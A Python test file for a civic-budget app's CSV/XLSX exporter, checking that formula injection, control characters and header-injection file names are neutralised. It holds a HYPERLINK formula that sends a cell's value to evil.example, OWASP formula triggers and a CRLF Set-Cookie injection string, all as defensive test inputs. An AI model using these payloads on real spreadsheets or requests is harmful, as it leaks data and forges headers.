"""The one exporter: no cell of a download is ever a formula, numbers stay numbers, no text a
spreadsheet cannot hold breaks a download, and no file name breaks its header."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from budgetcitoyen.core.exports import csv_response, xlsx_response
from budgetcitoyen.core.http import content_disposition

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Voir")'


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx_sheet(response):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(response.content)).active


class TestFormulaInjection:
    def test_a_hyperlink_title_is_plain_text_in_csv(self):
        rows = csv_rows(csv_response("x.csv", ["Titre"], [[HYPERLINK]]))
        assert rows[1] == ["'" + HYPERLINK]

    def test_a_hyperlink_title_is_a_text_cell_in_xlsx(self):
        cell = xlsx_sheet(xlsx_response("x.xlsx", ["Titre"], [[HYPERLINK]], title="T"))["A2"]
        assert cell.data_type == "s"
        assert cell.value == "'" + HYPERLINK

    @pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
    def test_every_trigger_of_owasp_is_neutralised(self, text):
        assert csv_rows(csv_response("x.csv", ["h"], [[text]]))[1] == ["'" + text]
        cell = xlsx_sheet(xlsx_response("x.xlsx", ["h"], [[text]], title="T"))["A2"]
        # XML reads a carriage return back as a line feed.
        assert (cell.value, cell.data_type) == ("'" + text.replace("\r", "\n"), "s")

    def test_headers_are_neutralised_too(self):
        # Column names may come from data (the review grid's criteria).
        assert csv_rows(csv_response("x.csv", ["=1+1"], []))[0] == ["'=1+1"]
        cell = xlsx_sheet(xlsx_response("x.xlsx", ["=1+1"], [], title="T"))["A1"]
        assert (cell.value, cell.data_type) == ("'=1+1", "s")

    def test_ordinary_text_is_written_as_is(self):
        rows = csv_rows(csv_response("x.csv", ["h"], [["Jardin partagé"], ["a-b"], ["1=1"]]))
        assert rows[1:] == [["Jardin partagé"], ["a-b"], ["1=1"]]
        sheet = xlsx_sheet(xlsx_response("x.xlsx", ["h"], [["Jardin partagé"], ["a=b"]], title="T"))
        assert (sheet["A2"].value, sheet["A3"].value) == ("Jardin partagé", "a=b")
        assert sheet["A2"].data_type == "s"


class TestNumbers:
    def test_a_negative_amount_stays_a_number(self):
        row = [Decimal("-12.50"), -3, 2.5]
        assert csv_rows(csv_response("x.csv", ["a", "b", "c"], [row]))[1] == ["-12,50", "-3", "2.5"]
        sheet = xlsx_sheet(xlsx_response("x.xlsx", ["a", "b", "c"], [row], title="T"))
        assert [c.data_type for c in sheet[2]] == ["n", "n", "n"]
        assert [c.value for c in sheet[2]] == [-12.5, -3, 2.5]

    def test_negative_looking_text_is_text(self):
        # Only a number passed as a number is one: the same figure as text is neutralised.
        assert csv_rows(csv_response("x.csv", ["a"], [["-12,50"]]))[1] == ["'-12,50"]

    def test_csv_bytes_of_values_that_need_nothing_are_unchanged(self):
        response = csv_response(
            "x.csv",
            ["édition", "titre", "montant", "financé"],
            [
                [2025, "Café; associatif", Decimal("12000"), True],
                [2025, 'Un "jardin"', None, False],
            ],
        )
        assert (
            response.content
            == (
                "\ufeffédition;titre;montant;financé\r\n"
                '2025;"Café; associatif";12000;oui\r\n'
                '2025;"Un ""jardin""";;non\r\n'
            ).encode()
        )

    def test_dates_and_booleans(self):
        sheet = xlsx_sheet(
            xlsx_response("x.xlsx", ["a", "b"], [[date(2025, 3, 4), True]], title="T")
        )
        assert sheet["A2"].is_date and sheet["B2"].value is True


class TestCharactersNoSpreadsheetHolds:
    def test_control_characters_are_dropped_not_a_failure(self):
        text = "a\x00b\x08c\x1fd\ud800e\uffff"
        assert csv_rows(csv_response("x.csv", ["h"], [[text]]))[1] == ["abcde"]
        cell = xlsx_sheet(xlsx_response("x.xlsx", ["h"], [[text]], title="T"))["A2"]
        assert cell.value == "abcde"

    def test_a_control_character_cannot_hide_a_formula(self):
        assert csv_rows(csv_response("x.csv", ["h"], [["\x01=1+1"]]))[1] == ["'=1+1"]

    def test_tabs_and_line_breaks_inside_a_text_are_kept(self):
        cell = xlsx_sheet(xlsx_response("x.xlsx", ["h"], [["a\tb\nc"]], title="T"))["A2"]
        assert cell.value == "a\tb\nc"

    def test_a_text_longer_than_an_excel_cell_is_cut(self):
        cell = xlsx_sheet(xlsx_response("x.xlsx", ["h"], [["x" * 40000]], title="T"))["A2"]
        assert len(cell.value) == 32767


class TestFileName:
    def test_a_line_break_never_reaches_the_header(self):
        header = content_disposition("dossiers-2025\r\nSet-Cookie: a=b.csv")
        assert "\r" not in header and "\n" not in header
        assert header.startswith('attachment; filename="dossiers-2025')

    def test_a_quote_cannot_close_the_file_name(self):
        assert content_disposition('dossiers-x"y.csv') == 'attachment; filename="dossiers-xy.csv"'

    def test_an_ascii_name_is_written_as_before(self):
        assert (
            content_disposition("budget-citoyen-2025-resultats.csv")
            == 'attachment; filename="budget-citoyen-2025-resultats.csv"'
        )
        assert (
            content_disposition("comptoirs.ics", inline=True) == 'inline; filename="comptoirs.ics"'
        )

    def test_a_french_name_has_an_ascii_fallback_and_its_utf8_form(self):
        assert content_disposition("résultats 2025.csv") == (
            "attachment; filename=\"resultats_2025.csv\"; filename*=UTF-8''r%C3%A9sultats_2025.csv"
        )

    def test_a_name_with_nothing_left_still_names_a_file(self):
        assert content_disposition('"\r\n') == 'attachment; filename="export"'

    def test_responses_carry_the_safe_name(self):
        response = csv_response('a"\r\nb.csv', ["h"], [])
        assert response["Content-Disposition"] == 'attachment; filename="ab.csv"'
        response = xlsx_response('a"\r\nb.xlsx', ["h"], [], title="T")
        assert response["Content-Disposition"] == 'attachment; filename="ab.xlsx"'


def test_no_other_module_writes_a_spreadsheet_or_a_file_name_by_hand():
    package = Path(__file__).resolve().parents[2]
    owners = {package / "core" / "exports.py", package / "core" / "http.py"}
    by_hand = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|filename=\"")
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "tests" not in path.parts
        and path not in owners
        and by_hand.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
